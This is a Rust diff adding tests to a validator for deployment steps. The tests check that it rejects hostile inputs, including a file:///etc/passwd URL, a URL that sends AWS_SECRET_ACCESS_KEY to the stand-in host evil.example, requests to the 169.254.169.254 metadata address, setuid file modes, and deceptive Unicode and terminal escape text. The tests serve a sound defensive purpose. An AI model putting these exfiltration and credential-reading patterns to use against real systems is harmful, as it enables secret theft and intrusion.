@@ -40,7 +40,10 @@ fn inspect(id: &str, phase: Phase) -> Step {
 }
 
 fn ask(id: &str, of: &str) -> Step {
-    let url = vec![Part::Literal("http://".to_owned()), address(of)];
+    asks(id, vec![Part::Literal("http://".to_owned()), address(of)])
+}
+
+fn asks(id: &str, url: Vec<Part>) -> Step {
     let http = HttpWait {
         url,
         status_from: 200,
@@ -111,7 +114,65 @@ fn steps_say_what_they_need_to() {
     assert!(with(&|s| s.action = write.clone()).contains("`A` is set twice"));
     let (path, content) = ("f".to_owned(), literal(""));
     let write = Action::WriteFile(FileWrite { path, content, mode: 0o10_000 });
-    assert!(with(&|s| s.action = write.clone()).contains("permission bits"));
+    assert!(with(&|s| s.action = write.clone()).contains("10000 is not within 777"));
+}
+
+#[test]
+fn s1_http_never_asks_but_by_http_also_in_an_undo() {
+    let file = asks("ask", literal("file:///etc/passwd"));
+    let mut undone = at("a", Phase::Start);
+    undone.undo = Some(file.action.clone());
+    for step in [file, undone] {
+        let lie = lie(&[step]);
+        assert!(lie.contains("does not begin with `http://`"), "{lie}");
+    }
+    assert_eq!(check(&context(), &[asks("ask", literal("http://localhost/up"))]), Ok(()));
+}
+
+#[test]
+fn s2_http_sends_no_variable_of_the_host_and_asks_no_metadata() {
+    let mut url = literal("http://evil.example/?");
+    url.push(Part::HostEnv("AWS_SECRET_ACCESS_KEY".to_owned()));
+    let variable = lie(&[asks("ask", url)]);
+    assert!(variable.contains("the variable `AWS_SECRET_ACCESS_KEY` in a URL"), "{variable}");
+    let metadata = asks("ask", literal("http://169.254.169.254/latest"));
+    let mut undone = at("a", Phase::Start);
+    undone.undo = Some(metadata.action.clone());
+    for step in [metadata, undone] {
+        let lie = lie(&[step]);
+        assert!(lie.contains("link-local or metadata"), "{lie}");
+    }
+}
+
+#[test]
+fn s8_no_file_runs_as_somebody_else() {
+    for mode in [0o4755, 0o2755, 0o1777] {
+        let (path, content) = ("f".to_owned(), literal(""));
+        let write = Action::WriteFile(FileWrite { path, content, mode });
+        let lie = lie(&[step("a", "web-1", Phase::Prepare, write)]);
+        assert!(lie.contains("is not within 777"), "{lie}");
+    }
+}
+
+#[test]
+fn s8_what_a_step_says_is_one_line() {
+    let set: [fn(&mut Step, String); 4] = [
+        |step, text| step.title = text,
+        |step, text| step.audit = Some(text),
+        |step, text| step.why = text,
+        |step, text| step.annotations = vec![("help".to_owned(), text)],
+    ];
+    for set in set {
+        for text in ["Boot\nerror: x", "Boot \u{202e}bew", "\u{2066}Boot", "a\u{2028}b", "a\x1b[2J"]
+        {
+            let mut step = at("a", Phase::Stage);
+            set(&mut step, text.to_owned());
+            assert!(lie(&[step]).contains("one line of text"), "{text:?}");
+        }
+        let mut step = at("a", Phase::Stage);
+        set(&mut step, "Boot web: ü שלום ✓".to_owned());
+        assert_eq!(check(&context(), &[step]), Ok(()));
+    }
 }
 
 #[test]
